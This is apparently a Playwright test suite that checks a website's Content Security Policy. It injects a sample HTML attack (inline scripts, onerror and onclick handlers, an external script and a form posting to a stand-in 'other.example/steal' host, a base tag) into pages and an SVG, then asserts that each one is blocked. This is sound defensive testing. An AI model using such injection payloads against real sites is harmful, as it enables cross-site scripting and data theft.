import { expect, type Page, test } from '@playwright/test';

declare global {
  interface Window {
    /** The directives of the policy that something on the page broke. */
    broken: string[];
    /** What an attack leaves behind where it succeeds. */
    attacked?: string;
  }
}
/** Notes on the page itself what its policy refuses. */
async function watchPolicy(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.broken = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.broken.push(effectiveDirective));
  });
}

test('nothing that files need which are opened by themselves is refused by the policy of the header', async ({
  page,
}) => {
  await watchPolicy(page);
  for (const path of ['/feed.xml', '/icon.svg', '/articles/7/cover.svg']) {
    await page.goto(path);
    expect(await page.evaluate(() => window.broken), path).toEqual([]);
  }
});

/** What somebody who gets HTML into a page would write. */
const attack = `
  <p id="styled" style="position: fixed">x</p>
  <button id="handler" onclick="window.attacked = 'handler'">x</button>
  <img src="/missing.png" onerror="window.attacked = 'error'" alt="">
  <script>window.attacked = 'script';</script>
  <script src="https://other.example/x.js"></script>
  <style>#styled { float: right }</style>
  <form action="https://other.example/steal" method="post"><button id="form">x</button></form>
  <base href="https://other.example/">`;

for (const path of ['/code/7/', '/contact/']) {
  test(`what is injected into ${path} does nothing by the policy of the page`, async ({ page }) => {
    await watchPolicy(page);
    await page.route(`**${path}`, async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': ofHeader, ...headers } = response.headers();
      expect(ofHeader).toBe("frame-ancestors 'none'; base-uri 'none'; object-src 'none'");
      const html = (await response.text()).replace('</main>', `${attack}</main>`);
      await route.fulfill({ status: 200, headers, body: html });
    });
    await page.goto(path);
    await page.locator('#handler').click();
    const broken = await page.evaluate(() => window.broken);
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'base-uri']) {
      expect(broken, directive).toContain(directive);
    }
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    await expect(page.locator('#styled')).toHaveCSS('position', 'static');
    await expect(page.locator('#styled')).toHaveCSS('float', 'none');
    // The last thing, and in one step: Playwright waits for a navigation that the browser has refused.
    const refused = await page.evaluate(() => {
      const violation = new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
      });
      document.querySelector<HTMLButtonElement>('#form')?.click();
      return violation;
    });
    expect(refused).toBe('form-action');
  });
}

test('a drawing that is opened by itself has its style, and runs nothing', async ({ page }) => {
  await watchPolicy(page);
  const more = "<style>svg { opacity: 0.5 }</style><script>window.attacked = 'script';</script>";
  await page.route('**/icon.svg', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('</svg>', `${more}</svg>`) });
  });
  await page.goto('/icon.svg');
  expect(await page.evaluate(() => [window.attacked, window.broken])).toEqual([undefined, ['script-src-elem']]);
  await expect(page.locator('svg').first()).toHaveCSS('opacity', '0.5');
});
